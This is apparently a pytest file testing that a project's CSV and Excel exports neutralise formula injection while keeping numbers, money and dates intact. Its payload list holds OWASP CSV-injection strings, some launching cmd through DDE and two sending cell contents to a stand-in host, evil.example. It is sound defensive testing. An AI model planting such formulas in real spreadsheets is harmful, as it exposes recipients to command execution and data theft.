"""Exports never hand a spreadsheet a live formula (OWASP CSV injection), numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from core import tables

# The payloads of the OWASP CSV-injection page, and the variants spreadsheet programs accept.
OWASP_PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?leak="&A1,"Klick")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "+1+1",
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
]


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_a_formula_in_a_text_cell_becomes_plain_text(payload):
    cells = csv_cells(tables.to_csv(["Name"], [[payload]]))
    assert cells[1] == ["'" + payload]
    book = load_workbook(io.BytesIO(tables.to_xlsx("Test", ["Name"], [[payload]])))
    cell = book.active.cell(2, 1)
    # XML keeps no bare carriage return, so compare what follows the leading blanks
    assert cell.data_type == "s" and cell.quotePrefix and cell.value.strip() == payload.strip()


def test_harmless_text_numbers_money_and_dates_are_unchanged():
    row = ["Anna Adler", "E-Mail: a@b.de", 42, Decimal("-770.74"), -3, date(2026, 11, 30)]
    cells = csv_cells(tables.to_csv(list("abcdef"), [row]))
    assert cells[1] == ["Anna Adler", "E-Mail: a@b.de", "42", "-770,74", "-3", "30.11.2026"]
    sheet = load_workbook(io.BytesIO(tables.to_xlsx("Test", list("abcdef"), [row]))).active
    assert [sheet.cell(2, i).value for i in (1, 3, 5)] == ["Anna Adler", 42, -3]
    assert sheet.cell(2, 4).data_type == "n" and not sheet.cell(2, 1).quotePrefix
